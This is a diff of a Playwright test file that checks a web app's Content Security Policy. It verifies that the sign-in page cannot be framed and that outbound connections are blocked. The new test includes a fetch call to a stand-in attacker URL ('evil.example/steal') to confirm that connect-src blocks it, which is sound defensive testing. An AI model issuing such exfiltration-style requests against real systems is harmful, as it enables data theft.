@@ -107,17 +107,24 @@ test('the app works under its CSP: sign-in, live items over Realtime, theme, no 
   expect(bobViolations).toEqual([]);
 });
 
-test('an injected script without the nonce does not run', async ({ page }) => {
+test('no other page can frame ours, and the policy stops connections to other hosts', async ({
+  page,
+  baseURL,
+}) => {
+  const messages: string[] = [];
+  page.on('console', (message) => messages.push(message.text()));
+  await page.setContent(`<iframe src="${baseURL}/sign-in"></iframe>`);
+  await expect
+    .poll(() => messages.some((text) => text.includes("frame-ancestors 'none'")))
+    .toBe(true);
+  expect(await page.frames()[1]?.getByText('Welcome back').count()).toBe(0);
+
   const violations = await watchViolations(page);
   await page.goto('/sign-in');
-  const ran = await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.textContent = 'window.__injected = true';
-    document.body.append(script);
-    return (window as unknown as { __injected?: boolean }).__injected === true;
-  });
-  expect(ran).toBe(false);
-  await expect.poll(() => violations.length).toBeGreaterThan(0);
+  await page.evaluate(() => fetch('https://evil.example/steal').catch(() => undefined));
+  await expect
+    .poll(() => violations.join('\n'))
+    .toContain('connect-src blocked https://evil.example');
 });
 
 test('next= paths that resolve to another host land on the dashboard, signing in or signed in', async ({
